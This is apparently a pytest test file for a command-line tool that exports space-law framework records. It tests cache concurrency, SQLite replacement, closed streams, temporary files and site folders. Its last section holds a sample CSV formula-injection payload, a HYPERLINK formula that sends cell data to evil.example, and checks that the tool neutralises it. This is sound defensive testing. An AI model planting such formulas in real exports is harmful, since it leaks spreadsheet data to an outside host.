"""Nothing lost under concurrency and odd outputs (issue 23): many runs on one record cache while a
record is saved, a database replaced under a reader, closed standard streams, temporary files,
symlinked and enclosing site folders, spreadsheet formulas in CSV.

Each test runs the real command as its own process (python -m space_frameworks): what is under test
is what a process does (its exit code, what it prints, what it leaves on disk).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from space_frameworks.cli import app
from space_frameworks.reports.listing import csv_text

FIXTURES = Path(__file__).parent / "fixtures"
TIMEOUT = 120
PROCESSES = 8


def environment(tmp_path: Path, **extra: str) -> dict[str, str]:
    """The process environment of a run: a private cache under `tmp_path`, no colour, fixed width."""
    base = {k: v for k, v in os.environ.items() if k not in ("FRAMEWORKS_ROOT", "FRAMEWORKS_NO_CACHE", "NO_COLOR")}
    return {**base, "COLUMNS": "100", "XDG_CACHE_HOME": str(tmp_path / "cache"), **extra}


def cli(tmp_path: Path, *args: str, env: dict[str, str] | None = None, **kwargs) -> subprocess.CompletedProcess[bytes]:
    """Run `frameworks ARGS` as its own process; its bytes captured unless told otherwise."""
    kwargs.setdefault("capture_output", True)
    return subprocess.run([sys.executable, "-m", "space_frameworks", *args], env=env or environment(tmp_path), timeout=TIMEOUT, **kwargs)


def no_traceback(result: subprocess.CompletedProcess[bytes]) -> None:
    assert b"Traceback" not in (result.stderr or b""), result.stderr.decode(errors="replace")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A writable copy of tests/fixtures (records alpha and beta)."""
    folder = tmp_path / "records"
    shutil.copytree(FIXTURES, folder)
    return folder


def save(path: Path, text: str) -> None:
    """Save as editors do: a new file renamed over the old one."""
    temporary = path.with_name(f".{path.name}.swp")
    temporary.write_text(text, encoding="utf-8")
    os.replace(temporary, path)


# -- 1. The record cache under many processes --------------------------------------------------


COMMANDS = (("export", "--format", "json"), ("show", "beta", "--format", "json"))


def in_process(root: Path, command: tuple[str, ...], env: dict[str, str]) -> bytes:
    """What `frameworks --root ROOT COMMAND` prints, run in this process (quicker than a new one)."""
    result = CliRunner().invoke(app, ["--root", str(root), *command], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    return result.stdout_bytes


@pytest.mark.heavy
def test_many_processes_on_one_cache_while_a_record_changes_give_what_no_cache_gives(tmp_path: Path, root: Path) -> None:
    beta = root / "frameworks" / "beta.yaml"
    versions = [beta.read_text(encoding="utf-8")]
    versions.append(versions[0].replace("short_title: Beta position", "short_title: Beta view"))
    versions.append(versions[0].replace("Insists on non-appropriation.", "Insists on non-appropriation, firmly."))
    uncached: dict[tuple[str, ...], list[bytes]] = {command: [] for command in COMMANDS}
    for text in versions:
        save(beta, text)
        for command in COMMANDS:
            uncached[command].append(in_process(root, command, {"FRAMEWORKS_NO_CACHE": "1"}))
    assert all(len(set(outputs)) == len(versions) for outputs in uncached.values())
    shared = environment(tmp_path)  # one cache for every run below, cold at first
    started = time.monotonic()
    commands = [COMMANDS[n % len(COMMANDS)] for n in range(PROCESSES)]
    runs = [
        subprocess.Popen(
            [sys.executable, "-m", "space_frameworks", "--root", str(root), *command],
            env=shared,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        for command in commands
    ]
    cache = tmp_path / "cache" / "frameworks"
    turn = 0
    while any(run.poll() is None for run in runs):
        turn += 1
        save(beta, versions[turn % len(versions)])
        if turn % 5 == 0 and cache.is_dir():  # and now and then an entry lost, as a user clearing files would
            for entry in cache.glob("*/*.json"):
                if entry.name != "index.json":
                    entry.unlink(missing_ok=True)
                    break
        time.sleep(0.01)
    outputs = [run.communicate(timeout=TIMEOUT) for run in runs]
    elapsed = time.monotonic() - started
    for command, run, (out, err) in zip(commands, runs, outputs, strict=True):
        assert run.returncode == 0 and err == b"", err.decode(errors="replace")
        assert out in uncached[command]  # the records as they were at one moment, never a mix
    for index, text in enumerate(versions):  # and afterwards, warm runs give what no cache gives
        save(beta, text)
        for command in COMMANDS * 2:
            assert in_process(root, command, {"XDG_CACHE_HOME": shared["XDG_CACHE_HOME"]}) == uncached[command][index]
    print(f"{PROCESSES} processes on one cache: {elapsed:.2f} s")


def test_a_missing_or_damaged_entry_is_rebuilt_from_the_record(tmp_path: Path, root: Path) -> None:
    first = cli(tmp_path, "--root", str(root), "show", "beta", "--format", "json")
    assert first.returncode == 0
    [folder] = (tmp_path / "cache" / "frameworks").iterdir()
    entries = [p for p in folder.glob("*.json") if p.name != "index.json"]
    assert len(entries) == 2
    for damage in ("truncate", "remove", "other-record"):
        for entry in entries:
            if damage == "truncate":
                entry.write_bytes(entry.read_bytes()[:100])
            elif damage == "remove":
                entry.unlink()
            else:
                entry.write_bytes(b'{"id": "planted"}')
        again = cli(tmp_path, "--root", str(root), "show", "beta", "--format", "json")
        assert again.returncode == 0 and again.stderr == b"" and again.stdout == first.stdout, damage


# -- 2. A database replaced while a reader has it open in WAL mode ------------------------------


def tables(connection: sqlite3.Connection) -> list[str]:
    return sorted(row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'"))


def test_export_over_a_database_a_reader_holds_open_in_wal_mode_gives_exactly_the_new_content(tmp_path: Path, root: Path) -> None:
    database = tmp_path / "x.db"
    assert cli(tmp_path, "--root", str(root), "export", "-o", str(database)).returncode == 0
    fresh = sqlite3.connect(database)
    expected = tables(fresh)
    fresh.close()
    reader = sqlite3.connect(database, isolation_level=None)
    assert reader.execute("PRAGMA journal_mode = wal").fetchone() == ("wal",)
    reader.execute("PRAGMA wal_autocheckpoint = 0")  # its changes stay in x.db-wal
    reader.execute("CREATE TABLE only_old (x)")
    reader.execute("INSERT INTO only_old VALUES (1)")
    reader.execute("BEGIN")
    assert reader.execute("SELECT count(*) FROM only_old").fetchone() == (1,)  # a read under way
    assert (tmp_path / "x.db-wal").stat().st_size > 0 and (tmp_path / "x.db-shm").exists()

    result = cli(tmp_path, "--root", str(root), "export", "-o", str(database))
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("x.db")) == ["x.db"]
    after = sqlite3.connect(database)
    assert tables(after) == expected and "only_old" not in tables(after)
    after.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    assert tables(after) == expected and after.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    after.close()
    # The reader goes on with the database it opened, undisturbed, and leaving it harms nothing.
    assert reader.execute("SELECT count(*) FROM only_old").fetchone() == (1,)
    reader.execute("COMMIT")
    reader.close()
    again = sqlite3.connect(database)
    assert tables(again) == expected and again.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    again.close()


def test_a_sidecar_that_cannot_be_removed_stops_the_export_and_keeps_the_old_database(tmp_path: Path, root: Path) -> None:
    database = tmp_path / "x.db"
    assert cli(tmp_path, "--root", str(root), "export", "-o", str(database)).returncode == 0
    before = database.read_bytes()
    (tmp_path / "x.db-journal").mkdir()  # not a file: it cannot be unlinked
    result = cli(tmp_path, "--root", str(root), "export", "-o", str(database))
    assert result.returncode == 2 and database.read_bytes() == before
    assert result.stderr.decode().splitlines() == [
        f"frameworks: cannot write {database}: cannot remove x.db-journal beside it (Is a directory); remove it, then try again"
    ]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(("x.db", ".frameworks"))) == ["x.db", "x.db-journal"]


# -- 3. Closed standard streams -----------------------------------------------------------------

# Every command that writes a file, with the file it writes (relative to the run's folder).
WRITERS = {
    "export-json": (["export", "-o", "out.json"], "out.json"),
    "export-csv": (["export", "-o", "out.csv"], "out.csv"),
    "export-sqlite": (["export", "-o", "out.db"], "out.db"),
    "site": (["site", "-o", "site"], "site/index.html"),
    "list": (["list", "-o", "out.md"], "out.md"),
    "topics": (["topics", "-o", "out.md"], "out.md"),
    "show": (["show", "alpha", "-o", "out.html"], "out.html"),
    "compare": (["compare", "alpha", "beta", "-o", "out.txt"], "out.txt"),
    "timeline": (["timeline", "-o", "out.json"], "out.json"),
    "signatories": (["signatories", "alpha", "-o", "out.csv"], "out.csv"),
    "schema": (["schema", "-o", "out.json"], "out.json"),
    "new": (["new", "gamma", "--kind", "treaty", "-o", "gamma.yaml"], "gamma.yaml"),
    "brief": (["brief", "alpha", "beta", "-o", "out.pdf"], "out.pdf"),
    "pack": (["pack", "-o", "out.pdf"], "out.pdf"),
}


def closing(*fds: int):  # type: ignore[no-untyped-def]
    """preexec_fn: the command starts with these descriptors closed, as `>&-` and `2>&-` leave them."""
    return lambda: [os.close(fd) for fd in fds]


STREAMS = {"stdout": (1,), "stderr": (2,), "both": (1, 2)}
# The PDF commands take a few seconds each: they run once, with both streams closed.
# The PDF commands (a real layout each) run only with --heavy.
PDF_COMMANDS = ("brief", "pack")
CLOSED_CASES = [
    pytest.param(c, how, marks=[pytest.mark.heavy] if c in PDF_COMMANDS else [])
    for c in sorted(WRITERS)
    for how in STREAMS
    if c not in PDF_COMMANDS or how == "both"
]


@pytest.mark.parametrize(("command", "streams"), CLOSED_CASES)
def test_a_command_that_writes_a_file_succeeds_with_a_standard_stream_closed(
    tmp_path: Path, root: Path, command: str, streams: str
) -> None:
    closed = STREAMS[streams]
    args, written = WRITERS[command]
    out = tmp_path / "out"
    out.mkdir()
    kept = {1: "stdout", 2: "stderr"}
    streams = {kept[fd]: subprocess.PIPE for fd in (1, 2) if fd not in closed}
    result = subprocess.run(
        [sys.executable, "-m", "space_frameworks", "--root", str(root), *args],
        env=environment(tmp_path),
        cwd=out,
        preexec_fn=closing(*closed),
        timeout=TIMEOUT,
        **streams,
    )
    assert result.returncode == 0, result.stderr
    assert (out / written).is_file() and (out / written).stat().st_size > 0
    assert not result.stdout  # messages go to stderr, and never into the file written
    if result.stderr is not None:
        assert b"Traceback" not in result.stderr and result.stderr.startswith(b"wrote ")
    assert b"wrote" not in (out / written).read_bytes()[:1000]


def test_output_printed_to_a_closed_stdout_ends_in_one_line_and_exit_1(tmp_path: Path, root: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "space_frameworks", "--root", str(root), "compare", "alpha", "beta"],
        env=environment(tmp_path),
        preexec_fn=closing(1),
        stderr=subprocess.PIPE,
        timeout=TIMEOUT,
    )
    assert result.returncode == 1
    assert result.stderr == b"frameworks: cannot write the output: standard output is closed\n"


@pytest.mark.parametrize("command", ["export-json", "site", "new"])
def test_messages_to_a_stderr_nobody_reads_are_dropped_quietly(tmp_path: Path, root: Path, command: str) -> None:
    args, written = WRITERS[command]
    out = tmp_path / "out"
    out.mkdir()
    reading, writing = os.pipe()
    os.close(reading)  # a pipe whose reader has gone: every write to it fails (EPIPE)
    try:
        result = subprocess.run(
            [sys.executable, "-m", "space_frameworks", "--root", str(root), *args],
            env=environment(tmp_path),
            cwd=out,
            stdout=subprocess.PIPE,
            stderr=writing,
            timeout=TIMEOUT,
        )
    finally:
        os.close(writing)
    assert result.returncode == 0 and result.stdout == b""
    assert (out / written).is_file()


# -- 4. No temporary file or folder left behind ---------------------------------------------------


def temporary_settings(tmp_path: Path, how: str) -> tuple[dict[str, str], Path]:
    """The environment for `how` $TMPDIR is, and the folder where temporary files would go.

    Python takes the first usable of $TMPDIR, $TEMP, $TMP, /tmp...: with $TMPDIR unset or unusable,
    $TEMP names the watched folder, so that a file left in "the temporary folder" is seen.
    """
    watched = tmp_path / "temporary"
    watched.mkdir()
    env = {k: v for k, v in environment(tmp_path).items() if k not in ("TMPDIR", "TEMP", "TMP")}
    if how == "set":
        env["TMPDIR"] = str(watched)
    elif how == "unset":
        env["TEMP"] = str(watched)
    else:  # read-only (root writes anywhere, so for root a file stands for a folder it cannot write in)
        blocked = tmp_path / "read-only"
        if os.geteuid() == 0:
            blocked.write_text("not a folder", encoding="utf-8")
        else:
            blocked.mkdir(mode=0o500)
        env["TMPDIR"], env["TEMP"] = str(blocked), str(watched)
    return env, watched


# The PDF commands (a few seconds each) with $TMPDIR set only: where Python puts temporary files is the same for all.
TEMPORARY_CASES = [(c, how) for c in ("export-json", "export-sqlite", "site") for how in ("set", "unset", "read-only")]


@pytest.mark.parametrize(("command", "how"), [*TEMPORARY_CASES, *(pytest.param(c, "set", marks=pytest.mark.heavy) for c in PDF_COMMANDS)])
def test_no_temporary_file_is_left_behind_on_success_or_failure(tmp_path: Path, root: Path, command: str, how: str) -> None:
    env, watched = temporary_settings(tmp_path, how)
    args, written = WRITERS[command]
    out = tmp_path / "out"
    out.mkdir()
    ok = cli(tmp_path, "--root", str(root), *args, env=env, cwd=out)
    assert ok.returncode == 0, ok.stderr
    files = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
    assert list(watched.iterdir()) == []
    # The same command failing at the end: the output's folder cannot be written.
    target = written.split("/")[0]
    (out / target).rename(tmp_path / "moved") if (out / target).exists() else None
    os.chmod(out, 0o500)
    try:
        if os.geteuid() == 0:  # root writes anywhere: make the write fail with a file-size limit instead
            failed = cli(tmp_path, "--root", str(root), *args, env=env, cwd=out, preexec_fn=file_size_limit(2000))
        else:
            failed = cli(tmp_path, "--root", str(root), *args, env=env, cwd=out)
    finally:
        os.chmod(out, 0o700)
    assert failed.returncode == 2, failed.stderr
    no_traceback(failed)
    assert len(failed.stderr.decode().strip().splitlines()) == 1, failed.stderr
    assert list(watched.iterdir()) == []
    assert sorted(str(p.relative_to(out)) for p in out.rglob("*")) == [f for f in files if not f.startswith(target)]


def file_size_limit(size: int):  # type: ignore[no-untyped-def]
    """preexec_fn: no file larger than `size` bytes can be written (RLIMIT_FSIZE, as a full disk)."""
    import resource

    return lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))


@pytest.mark.heavy
def test_a_brief_that_cannot_write_its_file_ends_in_one_line(tmp_path: Path, root: Path) -> None:
    env, watched = temporary_settings(tmp_path, "set")
    result = cli(
        tmp_path, "--root", str(root), "brief", "alpha", "beta", "-o", str(tmp_path / "b.pdf"), env=env, preexec_fn=file_size_limit(20_000)
    )
    assert result.returncode == 2
    assert result.stderr.decode().splitlines() == [f"frameworks: cannot make {tmp_path / 'b.pdf'}: File too large"]
    assert list(watched.iterdir()) == [] and not (tmp_path / "b.pdf").exists()


# -- 5. Site folders ------------------------------------------------------------------------------


def test_a_symlinked_site_folder_stays_a_link_to_the_new_build(tmp_path: Path, root: Path) -> None:
    builds = tmp_path / "builds"
    builds.mkdir()
    assert cli(tmp_path, "--root", str(root), "site", "-o", str(builds / "v1")).returncode == 0
    (builds / "v1" / "stale.html").write_text("from the earlier build", encoding="utf-8")
    public = tmp_path / "public"
    public.symlink_to("builds/v1")
    result = cli(tmp_path, "--root", str(root), "site", "-o", str(public))
    assert result.returncode == 0, result.stderr
    assert public.is_symlink() and os.readlink(public) == "builds/v1"
    assert (public / "index.html").is_file() and not (public / "stale.html").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["builds", "cache", "public", "records"]
    assert sorted(p.name for p in builds.iterdir()) == ["v1"]  # nothing left beside the build


@pytest.mark.parametrize("given", [".", "..", "../here", "{parent}"])
def test_a_site_folder_that_holds_the_current_folder_is_refused(tmp_path: Path, root: Path, given: str) -> None:
    here = tmp_path / "work" / "here"
    here.mkdir(parents=True)
    (here / "notes.txt").write_text("mine", encoding="utf-8")
    output = given.format(parent=str(tmp_path / "work"))
    result = cli(tmp_path, "--root", str(root), "site", "-o", output, cwd=here)
    assert result.returncode == 2
    assert result.stderr.decode().splitlines() == [
        f"frameworks: cannot write the site to {output}: it holds the current folder, and a build replaces its folder whole; give another, e.g. -o site"
    ]
    assert (here / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert sorted(p.name for p in (tmp_path / "work").iterdir()) == ["here"]


# -- 6. Spreadsheet formulas in CSV; JSON and SQLite keep the text ------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_csv_cells_that_begin_like_a_formula_are_neutralised_and_json_and_sqlite_keep_the_text(tmp_path: Path, root: Path) -> None:
    beta = root / "frameworks" / "beta.yaml"
    text = beta.read_text(encoding="utf-8")
    text = text.replace("summary: Insists on non-appropriation.", f"summary: '{FORMULA}'")
    text = text.replace("short_title: Beta position", "short_title: '@SUM(1+1);=1+2'")
    text = text.replace("summary: Rules should be made at the United Nations.", "summary: -2+3 more")
    save(beta, text)
    exported = cli(tmp_path, "--root", str(root), "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout.decode())))
    summaries = {r["topic"]: r["summary"] for r in rows if r["framework"] == "beta"}
    assert summaries["non-appropriation"] == "'" + FORMULA
    assert summaries["international-forum"] == "'-2+3 more"
    assert exported.stdout.splitlines()[0] == b"framework,topic,relation,stance,summary,gist,pinpoints,quotes,sources,note,not_held,support"
    assert all(line.startswith(b'"') for line in exported.stdout.splitlines()[1:] if line[:4] in (b'"bet', b'"alp'))
    listed = cli(tmp_path, "--root", str(root), "list", "--format", "csv")
    assert "'@SUM(1+1);=1+2" in [r["short_title"] for r in csv.DictReader(io.StringIO(listed.stdout.decode()))]
    assert b'"\'@SUM(1+1);=1+2"' in listed.stdout  # quoted: a ";" never starts a new cell

    records = json.loads(cli(tmp_path, "--root", str(root), "export", "--format", "json").stdout)
    [record] = (
        [r for r in records["frameworks"] if r["id"] == "beta"] if isinstance(records, dict) else [r for r in records if r["id"] == "beta"]
    )
    assert record["short_title"] == "@SUM(1+1);=1+2"
    assert FORMULA in json.dumps(record, ensure_ascii=False).replace('\\"', '"')
    database = tmp_path / "x.db"
    assert cli(tmp_path, "--root", str(root), "export", "-o", str(database)).returncode == 0
    with sqlite3.connect(database) as connection:
        assert connection.execute("SELECT summary FROM positions WHERE framework = 'beta' AND topic = 'non-appropriation'").fetchone() == (
            FORMULA,
        )
        assert connection.execute("SELECT short_title FROM frameworks WHERE id = 'beta'").fetchone() == ("@SUM(1+1);=1+2",)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_start_that_owasp_names_is_neutralised(start: str) -> None:
    text = csv_text(("a", "b"), [(f"{start}1+2", "plain")])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], [f"'{start}1+2", "plain"]]
    assert text.splitlines()[1].startswith('"')
